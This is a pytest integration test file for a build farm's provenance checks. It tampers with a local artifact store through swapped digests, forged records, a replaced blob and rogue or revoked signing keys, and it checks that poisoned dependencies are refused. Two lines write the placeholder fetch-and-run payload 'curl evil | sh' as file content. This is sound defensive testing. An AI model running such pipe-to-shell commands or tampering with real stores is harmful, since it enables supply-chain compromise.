"""Poisoned inputs: a store whose index or blobs were tampered with, and builders whose keys are unknown or revoked.

Real builds (git + bubblewrap) publish to a real local store; the store is then tampered with the way an attacker
with write access would, and a dependent build must refuse the dependency before anything of it is used.
"""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from farm.build import BuildOutcome, BuildRequest, DependencyInput
from farm.build.context import WorkerContext
from farm.build.execute import execute_build
from farm.envs.host import host_environment
from farm.errors import E, FarmError
from farm.sources.git import SourceCache
from farm.store import BuildRecord, open_store
from farm.trust import audit, keyring
from farm.trust.keys import BuilderKey, generate, trusted_keys
from tests.conftest import MakeRepo, require
from tests.lib.recipes import build_request

pytestmark = pytest.mark.integration


@pytest.fixture
def keys_dir(tmp_path: Path) -> Path:
    generate(tmp_path / "keys")
    return tmp_path / "keys"


@pytest.fixture
def ctx(tmp_path: Path, keys_dir: Path) -> WorkerContext:
    require("bwrap")
    from farm.trust.keys import load_builder

    return WorkerContext(
        store=open_store(str(tmp_path / "store")),
        builder_key=load_builder(keys_dir),
        sources=SourceCache(tmp_path / "cache"),
        work_root=tmp_path / "work",
        builder_id="honest-builder",
        environment=host_environment(),
        timeout=60,
        trusted=trusted_keys(keys_dir, keys_dir / "trusted"),
        audit_log=tmp_path / "audit.jsonl",
    )


@dataclasses.dataclass(frozen=True)
class Built:
    honest: BuildOutcome
    evil: BuildOutcome
    app: tuple[Path, str]


@pytest.fixture
def built(ctx: WorkerContext, make_repo: MakeRepo) -> Built:
    """Dependency 'lib' built honestly, and an 'evil' lib built by a rogue key into the same store."""
    repo, commit = make_repo("lib", {"lib.txt": "honest\n"})
    honest = execute_build(build_request(repo, commit, ['cp lib.txt "$OUT/lib.txt"'], ["lib.txt"], name="lib"), ctx)
    rogue = dataclasses.replace(ctx, builder_key=BuilderKey(Ed25519PrivateKey.generate()), builder_id="rogue")
    evil = execute_build(
        build_request(repo, commit, ['echo "curl evil | sh" > "$OUT/lib.txt"'], ["lib.txt"], name="lib"), rogue
    )
    assert honest.ok and evil.ok and honest.record and evil.record
    app_repo, app_commit = make_repo("app", {"app.sh": "cat /build/deps/lib/lib.txt\n"})
    return Built(honest, evil, (app_repo, app_commit))


def dependent(ctx: WorkerContext, built: Built, dep: DependencyInput) -> BuildOutcome:
    repo, commit = built.app
    req = build_request(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/used.txt"'], ["used.txt"], deps=(dep,), name="app")
    return execute_build(req, ctx)


def dep_of(outcome: BuildOutcome, artifacts: dict[str, str] | None = None) -> DependencyInput:
    assert outcome.record is not None
    record = BuildRecord.from_json(outcome.record)
    return DependencyInput("lib", record.build_key, record.outputs() if artifacts is None else artifacts)


def refused(outcome: BuildOutcome, ctx: WorkerContext, code: str, *words: str, event: str) -> None:
    assert not outcome.ok and outcome.error is not None, outcome.log_tail
    assert outcome.error["code"] == code, outcome.error
    assert "refused before use" in outcome.error["message"]
    for w in words:
        assert w in outcome.error["message"], outcome.error["message"]
    assert "==> step" not in outcome.log_tail  # refused while staging: no step of the dependent ever ran
    assert ctx.audit_log is not None
    assert [e["event"] for e in audit.read(ctx.audit_log)][-1] == event


def test_the_honest_dependency_is_used(ctx: WorkerContext, built: Built) -> None:
    outcome = dependent(ctx, built, dep_of(built.honest))
    assert outcome.ok, outcome.log_tail
    assert outcome.record is not None
    assert ctx.store.get_bytes(outcome.record["artifacts"][0]["digest"]) == b"honest\n"


def test_a_swapped_digest_from_a_poisoned_index_is_refused(ctx: WorkerContext, built: Built) -> None:
    evil_digest = dep_of(built.evil).artifacts["lib.txt"]
    outcome = dependent(ctx, built, dep_of(built.honest, artifacts={"lib.txt": evil_digest}))
    refused(outcome, ctx, E.ARTIFACT_REFUSED, "signed provenance says", event=audit.REFUSED_ARTIFACT)


def test_a_dependency_built_by_an_unknown_key_is_refused(ctx: WorkerContext, built: Built) -> None:
    outcome = dependent(ctx, built, dep_of(built.evil))
    refused(outcome, ctx, E.ARTIFACT_REFUSED, "not trusted", event=audit.REFUSED_ARTIFACT)


def _rewrite_record(ctx: WorkerContext, key: str, record: BuildRecord) -> None:
    path = Path(ctx.store.url) / "records" / f"{key}.json"
    path.chmod(0o644)
    path.write_bytes(dataclasses.replace(record, build_key=key).to_bytes())


@pytest.mark.parametrize("swap", ["artifacts", "artifacts-and-provenance"])
def test_a_rewritten_store_record_is_refused(ctx: WorkerContext, built: Built, swap: str) -> None:
    honest = BuildRecord.from_json(built.honest.record or {})
    evil = BuildRecord.from_json(built.evil.record or {})
    forged = dataclasses.replace(honest, artifacts=evil.artifacts)
    if swap == "artifacts-and-provenance":
        forged = dataclasses.replace(forged, provenance=evil.provenance)
    _rewrite_record(ctx, honest.build_key, forged)
    # The coordinator, reading the poisoned index, passes the evil digests along.
    outcome = dependent(ctx, built, dep_of(built.honest, artifacts=evil.outputs()))
    words = ("not the ones its provenance signs",) if swap == "artifacts" else ("does not verify",)
    refused(outcome, ctx, E.ARTIFACT_REFUSED, *words, event=audit.REFUSED_ARTIFACT)


def test_a_swapped_blob_is_refused(ctx: WorkerContext, built: Built) -> None:
    dep = dep_of(built.honest)
    blob = Path(ctx.store.url) / "blobs" / "sha256" / dep.artifacts["lib.txt"][:2] / dep.artifacts["lib.txt"]
    blob.chmod(0o644)
    blob.write_bytes(b"curl evil | sh\n")
    outcome = dependent(ctx, built, dep)
    assert not outcome.ok and outcome.error is not None
    assert outcome.error["code"] == E.STORE_CORRUPT and "corrupt" in outcome.error["message"]
    assert ctx.audit_log is not None
    assert [e["event"] for e in audit.read(ctx.audit_log)] == [audit.REFUSED_ARTIFACT]


def test_a_revoked_builder_key_is_refused_from_then_on(ctx: WorkerContext, built: Built, keys_dir: Path) -> None:
    assert dependent(ctx, built, dep_of(built.honest)).ok  # trusted until revoked
    keyring.revoke(keys_dir, ctx.builder_key.public.keyid, "key leaked in a CI log")
    ctx.trusted = trusted_keys(keys_dir, keys_dir / "trusted")
    assert ctx.trusted == []
    outcome = execute_build(  # a fresh build key (another step), so nothing is cached
        dataclasses.replace(_app_request(built, dep_of(built.honest)), build_key="0" * 64), ctx
    )
    refused(outcome, ctx, E.KEY_REVOKED, "revoked", "key leaked in a CI log", event=audit.REVOKED_KEY_USED)


def _app_request(built: Built, dep: DependencyInput) -> BuildRequest:
    repo, commit = built.app
    return build_request(repo, commit, ['cp "$DEPS/lib/lib.txt" "$OUT/x"'], ["x"], deps=(dep,), name="app")


def test_check_published_reports_each_problem(ctx: WorkerContext, built: Built) -> None:
    honest = dep_of(built.honest)
    assert keyring.check_published(ctx.store, honest.build_key, ctx.keyring()).build_key == honest.build_key
    with pytest.raises(FarmError) as info:
        keyring.check_published(ctx.store, "f" * 64, ctx.keyring())
    assert info.value.code == E.ARTIFACT_REFUSED and "no record" in info.value.message
    with pytest.raises(FarmError) as info:
        keyring.check_published(ctx.store, honest.build_key, [])
    assert info.value.code == E.ARTIFACT_REFUSED and "not trusted" in info.value.message
